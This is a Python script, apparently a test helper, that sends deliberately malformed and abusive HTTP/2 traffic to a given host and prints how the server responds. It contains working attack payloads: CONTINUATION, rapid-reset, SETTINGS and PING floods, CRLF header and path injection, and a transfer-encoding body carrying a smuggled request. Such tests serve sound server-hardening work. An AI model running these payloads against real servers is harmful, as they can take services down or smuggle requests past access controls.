"""HTTP/2 as no library would speak it: h2.py HOST ATTACK. Prints what came back: `status N`, `reset`, `goaway`,
`closed`, or `open` if the other side did nothing for two seconds. Runs on the tests' own Python with its h2 packages."""
import socket, ssl, struct, sys

import hpack
from hyperframe.frame import ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PriorityFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame

host, attack = sys.argv[1], sys.argv[2]
context = ssl.create_default_context()
context.set_alpn_protocols(["h2"])
stream = context.wrap_socket(socket.create_connection((host, 443), 5), server_hostname=host)
assert stream.selected_alpn_protocol() == "h2", stream.selected_alpn_protocol()
stream.settimeout(2)
encoder = hpack.Encoder()
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()


def head(*fields, method="GET", path="/", authority=host, scheme="https"):
    pseudo = [(":method", method), (":scheme", scheme), (":path", path), (":authority", authority)]
    return [(name, value) for name, value in pseudo if value is not None] + list(fields)


def headers(fields, number=1, end=True):
    flags = ["END_HEADERS"] + (["END_STREAM"] if end else [])
    return HeadersFrame(number, encoder.encode(fields, huffman=False), flags=flags).serialize()


def data(payload, number=1, end=True):
    return DataFrame(number, payload, flags=["END_STREAM"] if end else []).serialize()


def continuation_flood():
    yield HeadersFrame(1, encoder.encode(head()), flags=["END_STREAM"]).serialize()
    for _ in range(200_000):
        yield ContinuationFrame(1, encoder.encode([("x", "y" * 64)], huffman=False)).serialize()


def rapid_reset():
    for number in range(1, 40_001, 2):
        yield headers(head(), number) + RstStreamFrame(number, error_code=8).serialize()


def settings_flood():
    for _ in range(100_000):
        yield SettingsFrame(0, settings={3: 100}).serialize()


def ping_flood():
    for _ in range(100_000):
        yield b"\0\0\x08\x06\0\0\0\0\0" + b"x" * 8


def big_head():
    for _ in range(1):
        yield HeadersFrame(1, encoder.encode(head()), flags=["END_STREAM"]).serialize()
        for n in range(4000):
            yield ContinuationFrame(1, encoder.encode([(f"x-{n}", "y" * 8000)], huffman=False)).serialize()


ATTACKS = {
    "control": lambda: [headers(head())],
    "control_body": lambda: [headers(head(("content-length", "3"), method="POST"), end=False), data(b"abc")],
    "authority_mismatch": lambda: [headers(head(authority="denied.test"))],
    "authority_and_host_differ": lambda: [headers(head(("host", "denied.test")))],
    "authority_userinfo": lambda: [headers(head(authority="user@" + host))],
    "authority_port_zero": lambda: [headers(head(authority=host + ":0"))],
    "no_authority": lambda: [headers(head(authority=None))],
    "no_path": lambda: [headers(head(path=None))],
    "empty_path": lambda: [headers(head(path=""))],
    "no_method": lambda: [headers([(":scheme", "https"), (":path", "/"), (":authority", host)])],
    "two_methods": lambda: [headers([(":method", "GET")] + head())],
    "two_paths": lambda: [headers([(":path", "/other")] + head())],
    "pseudo_after_field": lambda: [headers([("x", "y")] + head())],
    "unknown_pseudo": lambda: [headers([(":secret", "y")] + head())],
    "scheme_http": lambda: [headers(head(scheme="http"))],
    "upper_case_name": lambda: [headers(head(("X-Upper", "y")))],
    "newline_in_value": lambda: [headers(head(("x", "y\r\nx-smuggled: 1")))],
    "newline_in_name": lambda: [headers(head(("x: y\r\nz", "1")))],
    "newline_in_path": lambda: [headers(head(path="/ HTTP/1.1\r\nhost: denied.test\r\n\r\nGET /"))],
    "space_in_method": lambda: [headers(head(method="GET / HTTP/1.1"))],
    "nul_in_value": lambda: [headers(head(("x", "y\0z")))],
    "connection_field": lambda: [headers(head(("connection", "close")))],
    "transfer_encoding": lambda: [headers(head(("transfer-encoding", "chunked"), method="POST"), end=False), data(b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n")],
    "te_not_trailers": lambda: [headers(head(("te", "gzip")))],
    "length_too_small": lambda: [headers(head(("content-length", "1"), method="POST"), end=False), data(b"abcdef")],
    "length_too_large": lambda: [headers(head(("content-length", "100"), method="POST"), end=False), data(b"abc")],
    "two_lengths": lambda: [headers(head(("content-length", "3"), ("content-length", "4"), method="POST"), end=False), data(b"abc")],
    "connect": lambda: [headers([(":method", "CONNECT"), (":authority", "denied.test:443")], end=False)],
    "even_stream": lambda: [headers(head(), 2)],
    "stream_zero": lambda: [b"\0\0\1\x01\x05\0\0\0\0\x82"],
    "data_on_idle": lambda: [data(b"abc", 5)],
    "window_overflow": lambda: [WindowUpdateFrame(0, window_increment=2**31 - 1).serialize() * 2],
    "frame_too_large": lambda: [b"\xff\xff\xff\x00\x00\0\0\0\x01"],
    "broken_compression": lambda: [b"\0\0\4\x01\x05\0\0\0\x01\xff\xff\xff\xff"],
    "depends_on_itself": lambda: [headers(head()), b"\0\0\5\x02\0\0\0\0\3" + struct.pack(">IB", 3, 16)],
    "push_promise": lambda: [b"\0\0\5\x05\4\0\0\0\1" + struct.pack(">I", 2) + b"\x82"],
    "unknown_frame": lambda: [b"\0\0\3\xee\0\0\0\0\0abc" + headers(head())],
    "continuation_flood": continuation_flood,
    "rapid_reset": rapid_reset,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "big_head": big_head,
}

told = []
try:
    stream.sendall(PREFACE)
    pending = b""
    for part in ATTACKS[attack]():
        pending += part
        if len(pending) > 1 << 16:
            stream.sendall(pending)
            pending = b""
    stream.sendall(pending)
except OSError:
    told.append("closed while sending")
received, decoder = b"", hpack.Decoder()
try:
    while True:
        chunk = stream.recv(65536)
        if not chunk:
            told.append("closed")
            break
        received += chunk
        while len(received) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(received[:9]))
            if len(received) < 9 + length:
                break
            frame.parse_body(memoryview(received[9 : 9 + length]))
            received = received[9 + length :]
            if isinstance(frame, HeadersFrame):
                told += [f"status {value}" for name, value in decoder.decode(frame.data) if name == ":status"]
            elif isinstance(frame, RstStreamFrame):
                told.append("reset")
            elif isinstance(frame, GoAwayFrame):
                told.append("goaway")
except TimeoutError:
    told.append("open")
except OSError:
    told.append("closed")
print("\n".join(told))
